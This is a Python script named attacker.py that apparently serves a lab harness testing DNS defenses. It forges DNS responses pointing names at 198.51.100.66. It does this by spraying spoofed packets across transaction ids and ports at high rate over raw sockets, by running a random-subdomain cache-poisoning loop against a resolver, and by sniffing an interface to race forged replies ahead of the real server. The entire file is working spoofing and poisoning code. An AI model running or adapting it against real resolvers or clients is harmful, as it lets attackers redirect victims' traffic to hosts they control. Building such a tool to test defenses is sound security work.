"""Forges answers to somebody's questions, which lead to 198.51.100.66.

usage: python3 attacker.py guess SERVER [SERVER6]   does not see the questions: sends in the name of SERVER, as told on standard input
       python3 attacker.py watch DEVICE STRANGER    sees the frames of a device, and answers questions before their server does

Guessing, each line is a sweep: `ids CLIENT PORT NAME RATE COUNT` tries COUNT ids at one port, `ports CLIENT ID NAME RATE COUNT` tries COUNT
ports with one id, RATE packets a second; 0 is as fast as it goes. The answer is `sent COUNT FIRST LAST`, times in seconds since 1970.
`poison RESOLVER PORT DOMAIN RATE SECONDS` has a resolver ask SERVER for random names below a domain and tries ids at its port; the answer ends with `ROUNDS NAME`,
the name for which it was believed, or a hyphen.
Watching, the first label of a question says, up to a hyphen, what is forged: `source` comes from STRANGER, `id` has another id, `port` goes to another
port, `question` answers another name, `fits` has nothing wrong with it. Other questions are left alone.
"""
import ctypes
import errno
import random
import socket
import struct
import sys
import time

from scapy.all import DNS, DNSQR, DNSRR, IP, UDP, Ether, IPv6, raw

LIE = "198.51.100.66"
LIBC = ctypes.CDLL(None, use_errno=True)
# Those a client of the lab never uses, so that no guess is right by chance: a guess that is right is an answer that fits.
GUESSED_IDS = range(0x0000, 0x8000)
GUESSED_PORTS = range(10000, 32000)


def forge(source, client, port, identity, name):
    said = DNS(id=identity, qr=1, rd=1, ra=1, qd=DNSQR(qname=name), an=DNSRR(rrname=name, ttl=86400, rdata=LIE))
    return (IPv6 if ":" in client else IP)(src=source, dst=client) / UDP(sport=53, dport=port) / said


class Packets:
    """One forged packet in many copies that differ in one number of 16 bits, sent by the dozen."""

    AT_ONCE = 64

    def __init__(self, server, client, port, identity, name, at):
        packet = bytearray(raw(forge(server, client, port, identity, name)))
        udp = 40 if ":" in client else 20
        self.at, self.sum_at = udp + at, udp + 6
        packet[self.at:self.at + 2] = b"\0\0"
        packet[self.sum_at:self.sum_at + 2] = b"\0\0"
        ends = packet[8:40] if udp == 40 else packet[12:20]
        self.sum = sum(struct.unpack(f"!{len(ends) // 2}H", ends)) + 17 + len(packet) - udp
        self.sum += sum(struct.unpack(f"!{(len(packet) - udp) // 2}H", packet[udp:udp + (len(packet) - udp & ~1)]))
        self.sum += packet[-1] << 8 if len(packet) & 1 else 0
        self.out = socket.socket(socket.AF_INET6 if udp == 40 else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.out.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.out.connect((client, 0))
        self.buffers = [ctypes.create_string_buffer(bytes(packet), len(packet)) for _ in range(self.AT_ONCE)]
        self.vectors = (Vector * self.AT_ONCE)(*((ctypes.addressof(buffer), len(packet)) for buffer in self.buffers))
        self.headers = (Header * self.AT_ONCE)(*((None, 0, 0, ctypes.addressof(vector), 1) for vector in self.vectors))

    def send(self, numbers):
        for buffer, number in zip(self.buffers, numbers):
            total = self.sum + number
            total = (total & 0xFFFF) + (total >> 16)
            total = (total & 0xFFFF) + (total >> 16)
            struct.pack_into("!H", buffer, self.at, number)
            struct.pack_into("!H", buffer, self.sum_at, ~total & 0xFFFF or 0xFFFF)
        sent = 0
        while sent < len(numbers):
            some = LIBC.sendmmsg(self.out.fileno(), ctypes.byref(self.headers, sent * ctypes.sizeof(Header)), len(numbers) - sent, 0)
            if some < 0 and ctypes.get_errno() != errno.ENOBUFS:
                raise OSError(ctypes.get_errno(), "sendmmsg")
            sent += max(some, 0)

    def close(self):
        self.out.close()


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Header(ctypes.Structure):
    """struct mmsghdr of sendmmsg(2)."""

    _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32), ("pad", ctypes.c_uint32), ("vectors", ctypes.c_void_p), ("vector_count", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t), ("flags", ctypes.c_int), ("sent", ctypes.c_uint)]


def sweep(server, what, client, fixed, name, rate, count):
    port, identity = (fixed, 0) if what == "ids" else (0, fixed)
    packets = Packets(server[":" in client], client, port, identity, name, 8 if what == "ids" else 2)
    choices = GUESSED_IDS if what == "ids" else GUESSED_PORTS
    order = random.sample(choices, min(count, len(choices)))
    first, began, sent = time.time(), time.monotonic(), 0
    while sent < count:
        due = int((time.monotonic() - began) * rate) + 1 if rate else count
        now = min(count, due, sent + Packets.AT_ONCE) - sent
        if now > 0:
            packets.send([order[number % len(order)] for number in range(sent, sent + now)])
            sent += now
        else:
            time.sleep(max(0, sent / rate - (time.monotonic() - began)))
    packets.close()
    print("sent", count, f"{first:.6f}", f"{time.time():.6f}", flush=True)


def poison(server, resolver, port, domain, rate, seconds):
    """Asks a resolver for names that nobody has asked for, and guesses the id of its question to the server behind it, until it is believed once."""
    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asking.setblocking(False)
    asking.connect((resolver, 53))
    first, began, sent, rounds, lied = time.time(), time.monotonic(), 0, 0, ""
    while not lied and time.monotonic() - began < seconds:
        name = f"k{random.getrandbits(40):x}.{domain}"
        packets = Packets(server[0], resolver, port, 0, name, 8)
        asking.send(raw(DNS(id=random.getrandbits(16), rd=1, qd=DNSQR(qname=name))))
        rounds += 1
        order, since, said = random.sample(range(65536), 65536), time.monotonic(), b""
        while not said and time.monotonic() - since < 2:
            due = min(len(order), int((time.monotonic() - since) * rate)) - (65536 - len(order))
            now = order[-min(due, Packets.AT_ONCE):] if due > 0 else []
            if now:
                del order[-len(now):]
                packets.send(now)
                sent += len(now)
            try:
                said = asking.recv(65535)
            except BlockingIOError:
                pass
        lied = name if said.endswith(socket.inet_aton(LIE)) else ""
        packets.close()
    print("sent", sent, f"{first:.6f}", f"{time.time():.6f}", rounds, lied or "-", flush=True)


def guess(*server):
    print("ready", flush=True)
    for line in sys.stdin:
        what, client, fixed, name, rate, count = line.split()
        (poison(server, client, int(fixed), name, int(rate), int(count)) if what == "poison"
         else sweep(server, what, client, int(fixed), name, int(rate), int(count)))


def watch(device, stranger):
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    tap.bind((device, 3))
    print("ready", flush=True)
    while True:
        frame, about = tap.recvfrom(65535)
        # What the workload sends comes in at the node's end of its device.
        if about[2] == socket.PACKET_OUTGOING or frame[12:14] != b"\x08\0" or frame[23] != 17 or frame[36:38] != b"\0\x35":
            continue
        seen = Ether(frame)
        name = seen[DNS].qd[0].qname.decode("latin1") if DNS in seen else ""
        lie = name.split("-")[0]
        if lie not in ("source", "id", "port", "question", "fits"):
            continue
        forged = Ether(src=seen.dst, dst=seen.src) / forge(
            stranger if lie == "source" else seen[IP].dst, seen[IP].src, seen[UDP].sport ^ (lie == "port"),
            seen[DNS].id ^ (lie == "id"), "other." + name if lie == "question" else name)
        sent = time.time()
        tap.send(raw(forged))
        print("sent", lie, f"{sent:.6f}", flush=True)


{"guess": guess, "watch": watch}[sys.argv[1]](*sys.argv[2:])
